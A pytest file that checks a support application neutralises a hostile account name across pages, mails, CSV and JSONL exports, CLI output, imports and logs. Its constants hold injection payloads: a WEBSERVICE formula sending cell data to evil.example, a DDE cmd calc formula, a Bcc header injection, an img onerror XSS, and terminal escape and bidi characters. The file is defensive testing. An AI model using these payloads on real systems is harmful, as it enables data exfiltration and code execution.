"""One company and one person whose names attack whoever shows them: in every list, every mail, every page and a terminal."""
import csv
import io
import json
import re

import pytest

import backdoor
from conftest import demo_that_mails
from hostile import crawl
from test_audit_log import COLUMNS, SEPARATORS
from web import Client

# A formula, quotes, a line and a header of its own, markup, CSI by one character, an override that is never taken back; long.
ATTACK = ("\"'; {mark}\r\nBcc: eve@evil.example\r\n\r\n<img src=x onerror=alert(1)><b>\u009b2J\x1b]0;owned\x07\u202egnp\u2066\u2028 "
          "& </title></p>")
COMPANY = "=WEBSERVICE(\"https://evil.example/\"&F2)" + ATTACK.replace("{mark}", "company") + "x" * 2000
NAME = "@SUM(1+1)*cmd|' /C calc'!A0" + ATTACK.replace("{mark}", "person") + "y" * 2000
# What a terminal obeys, and what turns the direction of what is read after it.
ACTING = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028-\u202e\u2066-\u2069]")
FORMULA = re.compile("[=+\\-@\t\r\n]")


@pytest.fixture(scope="module")
def demo(tmp_path_factory, mailbox):
    yield from demo_that_mails(tmp_path_factory, mailbox)


@pytest.fixture
def eve(demo, brand):
    """An account as an earlier import may have taken it."""
    person = backdoor.new_account(demo, brand)
    account = person.account.replace("-", "")
    backdoor.run(demo, "UPDATE accounts SET company = ? WHERE number = ?", COMPANY, account)
    backdoor.run(demo, "UPDATE members SET name = ? WHERE email = ?", NAME, person.email)
    return person


def command(demo, *arguments, status=0):
    done = demo.command(*arguments)
    assert done.returncode == status, done.stderr
    return done


def is_harmless(text):
    """Whether a terminal may be given it."""
    return ACTING.search(text) is None


def test_a_page_shows_the_name_and_does_nothing_it_says(demo, brand, eve):
    member = Client.of_portal(demo, brand).log_in(eve)
    agent = Client.of_desk(demo).log_in(brand.agent)
    call = agent.open_call(eve.account)
    supervisor = Client.of_desk(demo).log_in(brand.supervisor)
    backdoor.spend(demo, eve, 5, 5, locked_minutes=60)
    shown = 0
    starts = [(member, ["/", "/account/activity", "/account/settings"]), (agent, [call]),
              (supervisor, ["/", f"/supervision/locks/{backdoor.account_id(demo, eve)}",
                            f"/supervision/audit-log?account={eve.account}"])]
    for client, start in starts:
        for path, page in crawl(client, start).items():
            assert page.status < 500, path
            if "text/html" in (page.header("content-type") or ""):
                assert "<img src=x" not in page.text and "</title></p>" not in page.text, path
            assert "eve@evil.example" not in "".join(value for _, value in page.headers), path
            shown += "onerror=alert(1)" in page.words
    assert shown >= 4


def test_no_mail_has_a_header_a_line_or_a_tag_of_the_name(demo, brand, mailbox, eve):
    member = Client.of_portal(demo, brand).log_in(eve)
    member.set_answer("lent-book", "The Salt Road of Ghadames")
    agent = Client.of_desk(demo).log_in(brand.agent)
    for _ in range(2):
        call = agent.open_call(eve.account)
        for _ in range(3):
            agent.check(call, "Marzipan Periscope")
    mails = mailbox.wait_for(2, eve.email)
    for mail in mails:
        parsed = mail.parsed
        assert parsed["Bcc"] is None and mail.recipient == eve.email
        assert len(parsed.get_all("Subject")) == 1 and len(parsed.get_all("To")) == 1
        for name, value in parsed.items():
            assert is_harmless(str(value)), name
        assert all(len(line) <= 998 for line in mail.raw.split(b"\r\n")), "RFC 5322 §2.1.1"
        assert "\nBcc:" not in mail.text and is_harmless(mail.text), "a line of its own"
        assert "<img src=x" not in mail.html and "</title></p>" not in mail.html
        assert is_harmless(mail.html)
    assert any("onerror=alert(1)" in mail.text for mail in mails), "a mail names the account"


def test_every_list_is_read_as_it_was_and_executes_nothing(demo, brand, eve, tmp_path):
    Client.of_portal(demo, brand).log_in(eve)
    agent = Client.of_desk(demo).log_in(brand.agent)
    agent.open_call(eve.account)
    supervisor = Client.of_desk(demo).log_in(brand.supervisor)
    language = supervisor.get("/supervision/audit-log").lang
    path = f"/supervision/audit-log/export?account={eve.account}&format="
    text = supervisor.post(path + "csv").body.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=SEPARATORS[language], strict=True))
    assert len(rows) > 2 and {len(row) for row in rows} == {len(COLUMNS)}
    assert not [cell for row in rows for cell in row if FORMULA.match(cell) and cell != "-"]
    assert [cell for row in rows for cell in row if "'" + NAME == cell], "the name is in the list, disarmed"
    lines = supervisor.post(path + "jsonl").body.decode().splitlines()
    assert all(is_harmless(line) and json.loads(line) for line in lines)
    assert any(NAME in json.loads(line).values() for line in lines)

    show = command(demo, "account", "show", eve.account, "--brand", brand.id)
    assert "�" in show.stdout and is_harmless(show.stdout)
    told = command(demo, "account", "show", eve.account, "--brand", brand.id, "--json").stdout
    assert is_harmless(told) and COMPANY in json.loads(told).values()
    record = command(demo, "account", "export", eve.account, "--brand", brand.id).stdout
    assert is_harmless(record) and json.loads(record)
    for arguments in (["mail", "list", "--all"], ["mail", "list", "--all", "--json"], ["audit", "export"]):
        listed = command(demo, *arguments)
        assert is_harmless(listed.stdout) and is_harmless(listed.stderr), arguments


def test_closing_and_erasing_tell_nothing_that_a_terminal_obeys(demo, brand, eve):
    for arguments in (["close"], ["reopen"], ["close"], ["erase", "--yes"]):
        done = command(demo, "account", arguments[0], eve.account, "--brand", brand.id, *arguments[1:])
        assert is_harmless(done.stdout) and is_harmless(done.stderr), arguments


@pytest.mark.parametrize("sign", ["\u0085", "\u009b", "\x1b", "\u202e", "\u2066", "\u2028"])
def test_an_import_names_the_row_of_such_a_name_and_shows_it_harmless(demo, brand, tmp_path, sign):
    file = tmp_path / "customers.csv"
    head = "number,company,phone,email,name,language\n"
    file.write_text(head + f"HN-1,Good,,good@names.example,Good,en\nHN-2{sign},B{sign}d,,b{sign}d@names.example,B{sign},e{sign}\n")
    done = command(demo, "account", "import", str(file), "--brand", brand.id, "--links", str(tmp_path / "links.csv"), status=65)
    assert "line 3: the company has a line break or another control character in it" in done.stderr
    assert is_harmless(done.stderr) and not (tmp_path / "links.csv").exists()


def test_the_list_of_links_holds_no_formula(demo, brand, tmp_path):
    file, links = tmp_path / "customers.csv", tmp_path / "links.csv"
    with open(file, "w", newline="") as out:
        writer = csv.writer(out)
        writer.writerow(["number", "company", "phone", "email", "name", "language"])
        for place, sign in enumerate("=+-@＝＋－＠"):
            writer.writerow([f"{brand.id}-{place}", sign + "1;\"2\",3", "", f"{brand.id}{place}@links.example", sign + "A", "en"])
    command(demo, "account", "import", str(file), "--brand", brand.id, "--links", str(links))
    rows = list(csv.reader(io.StringIO(links.read_text(encoding="utf-8-sig"), newline=""), strict=True))
    assert len(rows) == 9 and all(len(row) == 6 for row in rows)
    assert not [cell for row in rows for cell in row if cell[0] in "=+-@＝＋－＠\t\r\n"]
    assert rows[1][1] == "'=1;\"2\",3"


def test_the_servers_log_has_no_line_of_the_name(demo, brand, eve):
    Client.of_portal(demo, brand).log_in(eve)
    log = demo.log.read_text(errors="replace")
    assert "evil.example" not in log and is_harmless(log)
